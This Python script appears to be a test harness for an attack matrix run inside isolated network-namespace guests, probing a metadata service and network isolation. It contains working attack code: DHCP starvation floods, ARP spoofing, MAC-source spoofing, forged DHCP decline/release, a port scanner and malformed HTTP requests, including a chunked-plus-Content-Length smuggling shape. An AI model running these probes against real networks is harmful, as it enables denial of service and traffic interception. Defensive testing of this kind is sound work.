#!/usr/bin/python3
"""Attack probes run inside a netns guest for the attack matrix (test/attacks).

  probe.py dhcpflood IFACE COUNT SECS WAIT
                                        COUNT DHCPDISCOVERs from IFACE's own MAC, each with a random
                                        chaddr, spread over SECS; counts answers until WAIT s later
  probe.py http HOST PORT KIND          sends one raw request of KIND (see REQUESTS) on one TCP
                                        connection, reads the answer until close (or 3 s)
  probe.py udp HOST PORT TEXT           one UDP datagram
  probe.py tcpscan HOST FIRST LAST [P]  TCP ports that accept a connection, FIRST..LAST plus P...
  probe.py arp IFACE OP HWSRC PSRC PDST [COUNT]
                                        COUNT ARP frames (OP request|reply) from IFACE's own MAC whose
                                        payload names HWSRC/PSRC as sender: a lie about who holds PSRC
  probe.py macsrc IFACE MAC PDST COUNT  COUNT frames with Ethernet source MAC (gratuitous-ARP shaped,
                                        naming PDST), to drag MAC onto IFACE's bridge port
  probe.py dhcpforge IFACE KIND CHADDR SRC CIADDR REQUESTED SERVER
                                        one DHCP KIND (decline|release) in CHADDR's name, from IP SRC,
                                        with ciaddr CIADDR and option 50 REQUESTED ('-' for none)

Prints one JSON object.
"""
import errno
import json
import os
import random
import selectors
import socket
import sys
import threading
import time


def dhcpflood(iface, count, secs, wait):
    import logging

    logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
    from scapy.all import BOOTP, DHCP, IP, UDP, Ether, get_if_hwaddr  # noqa: E402

    src = get_if_hwaddr(iface)
    # One frame built by scapy, then patched per copy: building thousands with scapy takes seconds.
    # UDP checksum 0 means "none" in IPv4, so patching chaddr and xid needs no recomputation.
    template = bytearray(bytes(
        Ether(src=src, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
        / UDP(sport=68, dport=67, chksum=0) / BOOTP(op=1, flags=0x8000)
        / DHCP(options=[("message-type", "discover"), "end"])
    ))
    xid_at, chaddr_at = 14 + 20 + 8 + 4, 14 + 20 + 8 + 28
    base = random.getrandbits(31)
    xids = set()
    answers = []
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    rx.bind((iface, 0))
    rx.settimeout(0.2)
    done = threading.Event()

    def listen():
        while not done.is_set():
            try:
                frame = rx.recv(2048)
            except socket.timeout:
                continue
            # IPv4 / UDP from port 67: a DHCP server's answer; is it to one of ours?
            if len(frame) > xid_at + 4 and frame[23] == 17 and frame[34:36] == b"\x00\x43":
                if int.from_bytes(frame[xid_at:xid_at + 4], "big") in xids:
                    answers.append(frame[chaddr_at:chaddr_at + 6].hex(":"))

    listener = threading.Thread(target=listen)
    listener.start()
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx.bind((iface, 0))
    started = time.monotonic()
    for i in range(count):
        # Batches of 50 on a schedule: a sustained flood, so a real client's exchange overlaps it.
        if i % 50 == 0:
            time.sleep(max(0.0, started + secs * i / count - time.monotonic()))
        xid = (base + i) & 0xFFFFFFFF
        xids.add(xid)
        template[xid_at:xid_at + 4] = xid.to_bytes(4, "big")
        # Locally administered unicast MACs, as a starvation tool makes them up.
        template[chaddr_at:chaddr_at + 6] = bytes([0x02]) + os.urandom(5)
        tx.send(bytes(template))
    sent_in = time.monotonic() - started
    time.sleep(wait)
    done.set()
    listener.join()
    return {"sent": count, "seconds": round(sent_in, 3), "answers": len(answers)}


HEAD = "GET /latest/meta-data/instance-id HTTP/1.1\r\nHost: 169.254.169.254\r\n"
PASSWORD = "POST /openstack/latest/password HTTP/1.1\r\nHost: 169.254.169.254\r\n"

# Raw requests, built here because some are larger than one argv string may be. The oversized ones
# are about twice Node's 16 KiB header limit: big enough to be refused, small enough to be sent
# whole before the server answers and closes (a larger one races that close and sees a reset).
REQUESTS = {
    "ok": HEAD + "Connection: close\r\n\r\n",
    "huge-header": HEAD + "X-Pad: " + "A" * 32768 + "\r\n\r\n",
    "huge-url": "GET /" + "a" * 32768 + " HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
    "many-headers": HEAD + "".join(f"X-H{i}: {i}\r\n" for i in range(2500)) + "\r\n",
    "huge-body": PASSWORD + "Content-Length: 8192\r\n\r\n" + "p" * 8192,
    "garbage": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not http\r\n\r\n",
    "bad-header-name": "GET / HTTP/1.1\r\nHo st: 169.254.169.254\r\n\r\n",
    "cl-and-te": PASSWORD + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "bad-chunk": PASSWORD + "Transfer-Encoding: chunked\r\n\r\nzz\r\nxx\r\n0\r\n\r\n",
}


def http(host, port, kind):
    payload = REQUESTS[kind].encode("latin1")
    s = socket.create_connection((host, port), timeout=3)

    def send():
        try:
            s.sendall(payload)
        except OSError:
            pass  # the server answered and closed before taking it all: the answer is what counts

    # Sending beside reading: an answer that comes while the request is still going out is kept.
    sender = threading.Thread(target=send)
    sender.start()
    got = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    finally:
        sender.join()
        s.close()
    line = got.split(b"\r\n", 1)[0].decode("latin1")
    status = int(line.split(" ")[1]) if line.startswith("HTTP/") else 0
    return {"status": status, "line": line, "bytes": len(got)}


def udp(host, port, text):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(text.encode(), (host, port))
        return {"sent": True}
    except OSError as e:
        return {"sent": False, "error": str(e)}


def tcpscan(host, first, last, extra):
    ports = sorted(set(list(range(first, last + 1)) + extra))
    found, unanswered = [], 0
    # In chunks, so the sockets stay well under a 1024 descriptor limit.
    for i in range(0, len(ports), 500):
        chunk_open, chunk_unanswered = scan_chunk(host, ports[i:i + 500])
        found += chunk_open
        unanswered += chunk_unanswered
    return {"open": found, "tried": len(ports), "unanswered": unanswered}


def scan_chunk(host, ports):
    # All at once, non-blocking (epoll): a closed port answers RST at once, a dropped SYN only times out.
    sel = selectors.DefaultSelector()
    for port in ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((host, port))
        if err not in (0, errno.EINPROGRESS):
            s.close()  # refused at once, e.g. no route
            continue
        sel.register(s, selectors.EVENT_WRITE, port)
    found = []
    deadline = time.monotonic() + 1.5
    while sel.get_map() and time.monotonic() < deadline:
        for key, _ in sel.select(max(0.0, deadline - time.monotonic())):
            if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                found.append(key.data)
            sel.unregister(key.fileobj)
            key.fileobj.close()
    left = list(sel.get_map().values())
    for key in left:
        key.fileobj.close()
    return sorted(found), len(left)


def _scapy():
    import logging

    logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
    import scapy.all as scapy  # noqa: E402

    return scapy


def arp(iface, op, hwsrc, psrc, pdst, count):
    s = _scapy()
    own = s.get_if_hwaddr(iface)
    dst = "ff:ff:ff:ff:ff:ff"
    frame = s.Ether(src=own, dst=dst) / s.ARP(
        op=1 if op == "request" else 2, hwsrc=hwsrc, psrc=psrc, pdst=pdst,
        hwdst="00:00:00:00:00:00" if op == "request" else dst,
    )
    s.sendp(frame, iface=iface, count=count, inter=0.05, verbose=False)
    return {"sent": count, "from": own}


def macsrc(iface, mac, pdst, count):
    s = _scapy()
    frame = s.Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / s.ARP(op=1, hwsrc=mac, psrc="0.0.0.0", pdst=pdst)
    s.sendp(frame, iface=iface, count=count, inter=0.05, verbose=False)
    return {"sent": count}


def dhcpforge(iface, kind, chaddr, src, ciaddr, requested, server):
    s = _scapy()
    s.conf.checkIPaddr = False
    opts = [("message-type", kind), ("server_id", server)]
    if requested != "-":
        opts.append(("requested_addr", requested))
    dst = "255.255.255.255" if kind == "decline" else server
    frame = (
        s.Ether(src=s.get_if_hwaddr(iface), dst="ff:ff:ff:ff:ff:ff")
        / s.IP(src=src, dst=dst)
        / s.UDP(sport=68, dport=67)
        / s.BOOTP(chaddr=bytes.fromhex(chaddr.replace(":", "")), ciaddr=ciaddr, xid=random.randint(1, 0xFFFFFFFF))
        / s.DHCP(options=opts + ["end"])
    )
    s.sendp(frame, iface=iface, verbose=False)
    return {"sent": 1}


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "dhcpflood":
        out = dhcpflood(args[0], int(args[1]), float(args[2]), float(args[3]))
    elif cmd == "http":
        out = http(args[0], int(args[1]), args[2])
    elif cmd == "udp":
        out = udp(args[0], int(args[1]), args[2])
    elif cmd == "tcpscan":
        out = tcpscan(args[0], int(args[1]), int(args[2]), [int(p) for p in args[3:]])
    elif cmd == "arp":
        out = arp(args[0], args[1], args[2], args[3], args[4], int(args[5]) if len(args) > 5 else 3)
    elif cmd == "macsrc":
        out = macsrc(args[0], args[1], args[2], int(args[3]))
    elif cmd == "dhcpforge":
        out = dhcpforge(*args[:7])
    else:
        sys.exit(f"unknown probe {cmd!r}")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
